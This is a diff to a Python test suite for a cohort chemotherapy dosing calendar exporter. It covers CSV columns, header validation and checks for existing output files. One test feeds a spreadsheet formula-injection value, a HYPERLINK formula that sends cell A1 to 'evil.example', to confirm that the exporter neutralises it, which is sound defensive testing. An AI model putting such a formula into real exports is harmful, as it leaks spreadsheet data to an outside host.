@@ -21,6 +21,7 @@ from dosing.cohort import (
     Rejected,
     Scheduled,
     cohort_header_lines,
+    existing_files,
     parse_choose,
     read_patients,
     safe_file_name,
@@ -125,14 +126,14 @@ def test_combined_row_count_is_the_sum_of_each_patients_administrations(tmp_path
 
 
 def test_combined_rows_equal_the_single_patient_csv_rows(tmp_path):
-    """Each patient's rows are the single-patient CSV rows with the id in front, cell for cell."""
+    """Each patient's rows are the single-patient CSV rows after its id and protocol, cell for cell."""
     patients = _write(tmp_path / "patients.csv", MIXED)
     out = tmp_path / "all.csv"
     _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
     schedule = _expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"})
     single = io.StringIO()
     write_csv_rows(single, rows(schedule))
-    expected = [["P003", *cells] for cells in csv.reader(io.StringIO(single.getvalue()))]
+    expected = [["P003", "D-KRd", *cells] for cells in csv.reader(io.StringIO(single.getvalue()))]
     assert [r for r in _data_rows(out) if r[0] == "P003"] == expected
 
 
@@ -173,7 +174,7 @@ def test_header_block_comes_once_with_the_notice_and_settings(tmp_path):
         ln.startswith("# choices: dexamethasone 40 mg per week (default)") for ln in comments
     )
     assert "# generated: 2026-01-01T00:00:00Z" in comments
-    assert all(ln.startswith("#") for ln in text.split("patient,date,")[0].splitlines())
+    assert all(ln.startswith("#") for ln in text.split("patient,protocol,date,")[0].splitlines())
 
 
 def test_each_patient_gets_a_line_with_measurements_bsa_and_choices(tmp_path):
@@ -188,7 +189,8 @@ def test_each_patient_gets_a_line_with_measurements_bsa_and_choices(tmp_path):
         assert not lines[i - 1].startswith("# patient ")
         assert not lines[i + 1].startswith("#")
     assert lines[starts[1]] == (
-        "# patient P003: height 5 ft 9 in = 175.26 cm, weight 176 lb = 79.8323 kg, "
+        "# patient P003: protocol D-KRd (cohort), cycles 2 (cohort), "
+        "height 5 ft 9 in = 175.26 cm, weight 176 lb = 79.8323 kg, "
         "BSA 1.971 m² (Mosteller), choices: dexamethasone 20 mg per week (chosen)"
     )
     assert "dexamethasone 40 mg per week (default)" in lines[starts[0]]
@@ -202,7 +204,7 @@ def test_patient_lines_never_hand_a_spreadsheet_a_formula(tmp_path):
     _run(str(patients), "--protocol", "D-KRd", "--cycles", "2", "-o", str(out))
     text = out.read_bytes().decode("utf-8")
     # the piece after the comma would open a quoted field in a spreadsheet: it is neutralised
-    assert '# patient =HYPERLINK("http://evil.example/?x="&A1,\'"click"): height 180 cm' in text
+    assert '# patient =HYPERLINK("http://evil.example/?x="&A1,\'"click"): protocol D-KRd' in text
     for cells in csv.reader(io.StringIO(text)):
         for cell in cells:
             if cell.lstrip()[:1] in {"=", "+", "-", "@"}:
@@ -227,7 +229,7 @@ def test_header_block_is_the_export_header_without_the_patient_fields():
         "cycles: 8 (protocol default) of 28 days from each patient's start date",
         "BSA formula: Mosteller (default)",
         "choices: carfilzomib 56 mg/m² (default); dexamethasone 40 mg per week (default); "
-        "a patient's choose column replaces a default for that patient",
+        "a patient's choose cell or drug column replaces a default for that patient",
     ]
     assert lines[-1] == f"NOTICE: {dosing.VERIFICATION_NOTICE}"
 
@@ -284,7 +286,9 @@ def test_missing_input_file_exits_2_with_one_line_and_no_output(tmp_path, capsys
         ("\n\n", "empty file"),
         ("id,height,weight,start\n\n", "no rows"),
         ("id,height,weight\nA,175cm,80kg\n", "'start'"),
-        ("id,height,weight,start,ward,bed\n", "unknown columns 'ward', 'bed'"),
+        ("id,height,weight,start,ward,bed\n", "no rows"),
+        ("id,hieght,weight,start\n", "'hieght' (did you mean 'height'?)"),
+        ("id,height,,weight,start\n", "an empty name in column 3"),
         ("id,height,weight,start,ID\n", "repeated"),
     ],
 )
@@ -376,21 +380,40 @@ def test_folder_output_defaults_to_ics(tmp_path):
     assert (folder / "A.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")
 
 
-def test_existing_patient_file_needs_force(tmp_path, capsys):
-    """An existing per-patient file is kept and its row rejected without --force."""
-    patients = _write(
-        tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\nB,175cm,80kg,{START}\n"
-    )
+def test_existing_patient_files_are_reported_once_before_any_work(tmp_path, capsys):
+    """Existing per-patient files give one line naming how many and --force; nothing is written."""
+    rows = "".join(f"{i},175cm,80kg,{START}\n" for i in "ABCDE")
+    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\n{rows}")
     folder = tmp_path / "out"
     folder.mkdir()
-    _write(folder / "A.csv", "keep me")
+    for name in ("A", "C", "D", "E"):
+        _write(folder / f"{name}.csv", "keep me")
     assert _run(str(patients), "--protocol", "KRd", "-o", str(folder), "--format", "csv") == 2
-    assert "line 2:" in capsys.readouterr().err
+    err = capsys.readouterr().err
+    assert err.count("\n") == 1
+    assert "holds 4 files of it already (A.csv, C.csv, D.csv, ...)" in err
+    assert "pass --force" in err
+    assert sorted(p.name for p in folder.iterdir()) == ["A.csv", "C.csv", "D.csv", "E.csv"]
     assert (folder / "A.csv").read_text() == "keep me"
-    assert (folder / "B.csv").exists()
     args = (str(patients), "--protocol", "KRd", "-o", str(folder), "--format", "csv", "--force")
     assert _run(*args) == 0
     assert (folder / "A.csv").read_text(encoding="utf-8").startswith("# KRd dosing calendar")
+    assert len(list(folder.iterdir())) == 5
+
+
+def test_a_file_that_appears_after_the_check_rejects_only_its_row(tmp_path):
+    """A file created between the check and the writing is still refused, for its row only."""
+    protocol = dosing.get_protocol("KRd")
+    lines = ["id,height,weight,start", f"A,175cm,80kg,{START}", f"B,175cm,80kg,{START}"]
+    assert existing_files(tmp_path, lines, fmt="csv") == []
+    _write(tmp_path / "A.csv", "another run's")
+    seen: list[Rejected] = []
+    results = schedule_patients(protocol, lines, cycles=1)
+    summary = write_cohort_files(tmp_path, results, fmt="csv", on_rejected=seen.append)
+    assert (summary.patients, summary.rejected) == (1, 1)
+    assert [r.line for r in seen] == [2]
+    assert "does not exist yet" in seen[0].message
+    assert (tmp_path / "A.csv").read_text() == "another run's"
 
 
 def test_clashing_file_names_are_made_unique(tmp_path):
@@ -629,7 +652,7 @@ class _Trickle(io.RawIOBase):
 
 def test_line_ends_split_across_reads_are_read_once():
     """LF, CRLF and CR alone end one line each, even when a CRLF is split between two reads."""
-    from dosing.cohort import _text_lines
+    from dosing.patients_file import _text_lines
 
     data = b"a\r\nb\rc\nd\r\r\ne\r"
     expected = ["a\n", "b\n", "c\n", "d\n", "\n", "e\n"]
